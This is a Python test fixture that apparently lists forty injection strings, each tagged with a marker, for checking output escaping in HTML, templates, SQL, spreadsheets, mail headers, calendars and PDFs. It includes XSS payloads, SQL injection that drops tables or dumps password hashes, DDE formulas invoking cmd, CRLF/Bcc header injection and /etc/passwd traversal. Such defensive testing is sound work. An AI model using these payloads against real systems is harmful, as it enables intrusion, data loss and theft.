"""Forty strings made to run: in a page, on paper, in a letter, a spreadsheet, a calendar, a query, a template.

`MARK` stands in each, so that it is known wherever it comes out. `SUM` stands in none: it is what some would come to.
"""

from typing import Final

MARK: Final = "QZINJ"
SUM: Final = str(7331 * 1000003)

STRINGS: Final = (
    # pages
    f"<script id={MARK}>alert('{MARK}')</script>",
    f"<img src={MARK} onerror=alert(1)>",
    f"\"><svg/onload=alert('{MARK}')>",
    f"' autofocus onfocus='alert(1)' x='{MARK}",
    f"\" autofocus onfocus=\"alert(1)\" x=\"{MARK}",
    f"` onmouseover=alert(1) {MARK}",
    f"<iframe src=javascript:alert('{MARK}')></iframe>",
    f"javascript:alert('{MARK}')",
    f"data:text/html,<b id={MARK}>",
    f"</textarea><b id={MARK}>x",
    f"</title></style></script><base href=//{MARK}.example>",
    f"<!--{MARK}--><meta http-equiv=refresh content='0;url=//{MARK}'>",
    f"&lt;script&gt;{MARK}&lt;/script&gt;",
    f"&#60;img src={MARK} onerror=alert(1)&#62;",
    f"<form action=//{MARK}.example><button>x",
    f"<style>@import '//{MARK}.example';</style>",
    # templates and formats
    f"{{{{7331*1000003}}}}{MARK}",
    f"${{7331*1000003}}{MARK}",
    f"<%= 7331*1000003 %>{MARK}",
    f"{{% include '/etc/passwd' %}}{MARK}",
    f"%(name)s %s %d {{0}} {{x}} {MARK}",
    # queries
    f"'; DROP TABLE people; -- {MARK}",
    f"\" OR 1=1; DELETE FROM users -- {MARK}",
    f"x' UNION SELECT password_hash FROM users -- {MARK}",
    f"%' OR name LIKE '%_{MARK}\\",
    # spreadsheets
    f"=HYPERLINK(\"http://{MARK}.example\";\"x\")",
    f"=cmd|'/C calc'!A0 {MARK}",
    f"+7331+{MARK}()",
    f"-2+3+cmd|' /C calc'!A0 {MARK}",
    f"@SUM(1+1)*{MARK}",
    f"\t=1+1 {MARK}",
    f"]]><f>1+1</f><!ENTITY x SYSTEM '{MARK}'>",
    # letters and heads
    f"{MARK}\r\nBcc: {MARK.lower()}@example.com",
    f"{MARK}\r\nX-{MARK}: 1\r\n\r\n<script>alert(1)</script>",
    f"=?utf-8?b?{MARK}?= <a@{MARK.lower()}.example>, ",
    # calendars
    f"{MARK}\r\nEND:VEVENT\r\nBEGIN:VALARM\r\nATTACH:{MARK}",
    f"{MARK};ALTREP=\"http://x.example\":x\\, \\n \\; \\",
    # paper
    f"<font size=99 color=red>{MARK}</font><br/><a href='javascript:1'>",
    f"(\\) Tj ET endstream /JS ({MARK}) \\251",
    # what is not seen
    f"\u202e{MARK}\u0000\u200b\ufeff😀е\u0301 ../../etc/passwd",
)  # fmt: skip
assert len(STRINGS) == len(set(STRINGS)) == 40
